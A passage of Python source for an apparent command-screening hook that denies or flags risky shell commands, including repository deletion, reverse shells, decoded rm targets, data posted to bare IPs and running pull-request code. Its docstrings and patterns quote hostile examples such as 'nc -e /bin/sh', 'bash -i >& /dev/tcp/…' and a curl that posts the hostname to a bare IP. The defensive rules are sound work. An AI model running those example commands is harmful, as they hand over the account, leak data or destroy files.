    if "DELETE" not in [m.upper() for m in methods]:
        return
    for word in positionals:
        url = (cmd.values(word) or [word.text])[0]
        if _HOSTED_REPO_URL.search(url):
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` deletes a whole hosted repository (code, issues, pull requests and "
                    "releases) through the forge's API. Ask the user to delete repositories.",
                )
            )
            return
        if re.search(r"/(?:_all|\*)(?:[/?]|$)", url):
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` deletes every index/collection of the service. Delete the one "
                    "index meant, or ask the user to run it.",
                )
            )
        elif re.search(r"^(?:\w+://)?[^/]*/[^/?]*\*", url):
            # DELETE /logs-2024.*: every index whose name matches, data included; on a host named
            # production nobody should run it unreviewed.
            prod = re.search(r"(?i)^(?:\w+://)?[^/]*(?:^|[@/.=_-])(?:prod|production|live)(?:$|[.:/_-])", url)
            found.append(
                (
                    "deny" if prod else "ask",
                    f"`{cmd.display}` deletes every index or collection whose name matches the pattern. "
                    "List them first (GET /_cat/indices/PATTERN) and delete the ones meant by name, or ask the user.",
                )
            )


def rule_remote_shell(cmd: Cmd, found: list[Finding]) -> None:
    """A shell wired to the network (reverse or bind shell): ``nc -e /bin/sh``, ``socat …
    EXEC:/bin/bash``, ``bash -i >& /dev/tcp/…``, ``sh -i … | nc host port``. Whoever connects
    gets the user's account."""
    for spec in cmd.forwards:
        bind = spec.rsplit(":", 3)[0] if spec.count(":") >= 3 else ""
        if bind.strip("[]") in ("0.0.0.0", "*", "::"):
            found.append(
                (
                    "deny",
                    f"`ssh -R {spec}` opens a port of this machine on every interface of the remote host, "
                    "so anyone who reaches that host reaches this machine. Bind the forward to localhost.",
                )
            )
            return
    lits = [(w.literal() or "") for w in cmd.args]
    name = cmd.name
    wired = False
    if name in ("nc", "ncat", "netcat"):
        _flags, _pos, values = _shell.split_options(
            cmd.args, frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
        )
        wired = any(values.get(k) for k in ("e", "c", "exec", "sh-exec", "lua-exec"))
    elif name == "socat":
        wired = any(re.match(r"(?i)(?:exec|system):", a) for a in lits)
    elif name in _shell.SHELLS or name == "exec":
        targets = [cmd.values(r.target) or [r.target.text] for r in cmd.redirects if r.target is not None]
        wired = any(v.startswith(("/dev/tcp/", "/dev/udp/")) for vs in targets for v in vs)
    if not wired and (name in _shell.SHELLS) and cmd.stage_names:
        others = {n for i, st in enumerate(cmd.stage_names) if i != cmd.stage for n in st}
        wired = bool(others & {"nc", "ncat", "netcat", "socat", "telnet"}) and "-i" in lits
    if wired:
        found.append(
            (
                "deny",
                f"`{cmd.display}` connects a shell to the network (a reverse or bind shell): whoever "
                "is at the other end controls this account. Do not run it; use ssh for remote access.",
            )
        )


# Commands whose operands decide what is destroyed: an operand spelled by a decoder hides it.
_DESTRUCTIVE = frozenset({
    "rm", "rmdir", "unlink", "shred", "truncate", "dd", "mv", "chmod", "chown", "chgrp", "wipefs",
    "find", "rsync", "mkfs", "mke2fs", "mkswap", "blkdiscard",
})  # fmt: skip
_HIDING = frozenset({"base64", "base32", "xxd", "uudecode", "rev"})


def rule_decoded_operand(cmd: Cmd, found: list[Finding]) -> None:
    """``rm -rf $(echo Lw== | base64 -d)``: a destructive command whose target is decoded on the
    spot, so neither the user nor this hook can see what it deletes."""
    if cmd.name not in _DESTRUCTIVE and not cmd.name.startswith("mkfs"):
        return
    for word in cmd.args:
        produced: set[str] = set()
        for sub in word.subs():
            produced |= _shell.names_in(sub.script, cmd.ctx)
        for part in word.parts:
            if isinstance(part, _shell.Var):
                produced |= cmd.ctx.sources.get(part.name, set())
        if produced & _HIDING:
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` works on a path that is decoded on the spot ({word.text}), hiding "
                    "what it changes. Write the path itself.",
                )
            )
            return


_DATA_FLAGS = frozenset({
    "-d", "-F", "-T", "--json", "--form", "--form-string", "--upload-file", "--post-data",
    "--post-file", "--body-data", "--body-file",
})  # fmt: skip
_BARE_IP_URL = lazy_compile(r"^(?:[a-z]+://)?(?:[^@/\s]*@)?(?P<ip>\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?(?:[/?#]|$)")
# Addresses that stay on this machine or a private network (loopback, RFC 1918, CGNAT, link-local).
_LOCAL_NETS = (
    "127.0.0.0/8",
    "10.0.0.0/8",
    "172.16.0.0/12",
    "192.168.0.0/16",
    "100.64.0.0/10",
    "169.254.0.0/16",
    "0.0.0.0/8",
)


def _public_ip(ip: str) -> bool:
    import ipaddress  # only when a bare address is seen: keeps the hook's start-up light

    try:
        addr = ipaddress.IPv4Address(ip)
    except ValueError:
        return False
    return not any(addr in ipaddress.IPv4Network(net) for net in _LOCAL_NETS)


def rule_send_to_address(cmd: Cmd, found: list[Finding]) -> None:
    """``curl -d "$(hostname)" http://198.51.100.8/b``, ``wget --post-file=x 203.0.113.4``: data
    sent to a bare public IP address, with no host name a reviewer could recognise, is the
    shape of a beacon or an exfiltration (posting to localhost or a private address is local
    testing and passes)."""
    if cmd.name not in ("curl", "wget", "http", "https", "xh"):
        return
    lits = [w.text for w in cmd.args]  # --post-data="u=$(whoami)": the option, whatever its value
    sends = any(
        lit in _DATA_FLAGS
        or lit.startswith(("--data", "--post-", "--body-", "--json=", "--form="))
        or re.fullmatch(r"-[a-zA-Z]*[dFT]", lit) is not None
        or (lit.startswith("-d") and not lit.startswith("--"))
        for lit in lits
    ) or (cmd.name in ("http", "https", "xh") and any(re.match(r"^[\w.-]+(?:=|:=|@)", w.text) for w in cmd.args))
    if not sends:
        return
    for word in cmd.args:
        for value in cmd.values(word) or []:
            m = _BARE_IP_URL.match(value)
            if m and _public_ip(m.group("ip")):
                found.append(
                    (
                        "ask",
                        f"`{cmd.display}` sends data to the bare internet address {m.group('ip')} (no host name "
                        "anyone could recognise), the shape of a beacon or an exfiltration; confirm, or send it "
                        "to the service's named host.",
                    )
                )
                return


# Programs that run the checked-out project's own code: its scripts, build files, test suites,
# package lifecycle scripts (npm install runs postinstall), build scripts (cargo's build.rs).
_PROJECT_CODE_RUNNERS = {
    "npm": {"install", "i", "ci", "test", "t", "run", "start", "exec", "rebuild"},
    "pnpm": {"install", "i", "test", "run", "start", "exec"},
    "yarn": {"", "install", "test", "run", "start"},
    "bun": {"install", "i", "test", "run"},
    "go": {"test", "run", "generate"},
    "cargo": {"build", "test", "run", "bench", "check"},
    "make": {""},
    "just": {""},
    "pytest": {""},
    "tox": {""},
    "nox": {""},
    "gradle": {""},
    "gradlew": {""},
    "mvn": {""},
    "rake": {""},
    "bundle": {"exec", "install"},
    "pip": {"install"},
    "poetry": {"install", "run"},
    "uv": {"run", "sync", "pip"},
}


def _checks_out_pr(cmd: Cmd) -> bool:
    """``gh pr checkout 42``, ``git fetch origin pull/42/head:pr-42``, ``git checkout FETCH_HEAD``."""
    lits = [w.literal() or "" for w in cmd.args]
    if cmd.name == "gh":
        return lits[:2] == ["pr", "checkout"]
    if cmd.name == "git":
        return any(re.search(r"(?:^|/)(?:pull|merge-requests)/\d+/head", a) for a in lits) or (
            lits[:1] in (["checkout"], ["switch"]) and "FETCH_HEAD" in lits
        )
    return False


def _runs_project_code(cmd: Cmd) -> bool:
    lits = [w.literal() or "" for w in cmd.args]
    ops = [a for a in lits if not a.startswith("-")]
    if cmd.name in _shell.SHELLS:
        _inline, _stdin, script = _shell.shell_invocation(cmd.args)
        return script is not None
    if cmd.argv and (cmd.argv[0].literal() or "").startswith("./"):
        return True
    if cmd.name in _shell.INTERPRETERS:
        return bool(ops) and ops[0].endswith((".py", ".js", ".ts", ".rb", ".pl", ".php", ".mjs", ".cjs"))
    subcommands = _PROJECT_CODE_RUNNERS.get(os.path.basename(cmd.name))
    if subcommands is None:
        return False
    return "" in subcommands or (bool(ops) and ops[0] in subcommands)


def rule_runs_pr_code(cmds: list[Cmd], found: list[Finding]) -> None:
    """``gh pr checkout 918 && npm install`` / ``… && go test ./...`` / ``… && bash ./setup.sh``:
    after checking out someone else's pull request, running the project's code (scripts, tests,
    install hooks) runs that contributor's changes, which the call does not show. Reading the
    diff or recreating a virtualenv passes."""
    checked_out = False
    for cmd in cmds:
        if _checks_out_pr(cmd):
            checked_out = True
        elif checked_out and _runs_project_code(cmd):
            found.append(
                (
                    "ask",
                    f"`{cmd.display}` runs code from a pull request checked out earlier in this command, "
                    "whose changes the call does not show; review the diff first (gh pr diff), or confirm.",
                )
            )
            return


# Programs that only select or reshape text: what a shell gets after them is a piece of their input.
_TEXT_FILTERS = frozenset({
    "jq", "yq", "sed", "grep", "egrep", "fgrep", "cut", "tr", "head", "tail", "sort", "uniq", "awk", "gawk", "mawk",
    "xargs", "rev", "tac", "cat", "column", "fmt", "fold", "paste",
})  # fmt: skip
_QUOTED_STRING = lazy_compile(r'"((?:[^"\\]|\\.)*)"' + r"|'([^']*)'")


def rule_filtered_text_run(cmd: Cmd, check: Callable[[str, Ctx], list[Finding]], found: list[Finding]) -> None:
    """``echo '{"cmd": "git push -f origin main"}' | jq -r .cmd | bash``: a shell running a piece,
    picked by text filters, of text written in the call itself. Every candidate piece (the text,
    its lines, its quoted strings) is judged like a command; a denied one is denied here too."""
    if cmd.name not in _shell.SHELLS or cmd.stage == 0 or cmd.stdin_text is not None or not _reads_code_from_stdin(cmd):
        return
    source = cmd.prev
    while source is not None and source.name in _TEXT_FILTERS and source.stdin_text is None:
        source = source.prev
    if source is None or source.name not in _TEXT_FILTERS or not source.stdin_text:
        return
    text = source.stdin_text
    lines = text.splitlines()
    # A line's command may follow a label (step2: rm …, cmd=rm …) that the filters cut off.
    pieces = [text, *lines, *(re.split(r"[:=]\s*|\s+", line.strip(), maxsplit=1)[-1] for line in lines)]
    pieces += [m.group(1) if m.group(1) is not None else m.group(2) for m in _QUOTED_STRING.finditer(text)]
    for piece in dict.fromkeys(p.strip() for p in pieces if p.strip()):
        try:
            denied = [reason for level, reason in check(piece, cmd.ctx) if level == "deny"]
        except RecursionError:
            return
        if denied and not denied[0].startswith("rule parse:"):
            found.append(
                (
                    "deny",
                    f"`{cmd.name}` runs text picked out of what this call writes, and that text "
                    f"would be denied on its own: {denied[0]}",
                )
            )
            return
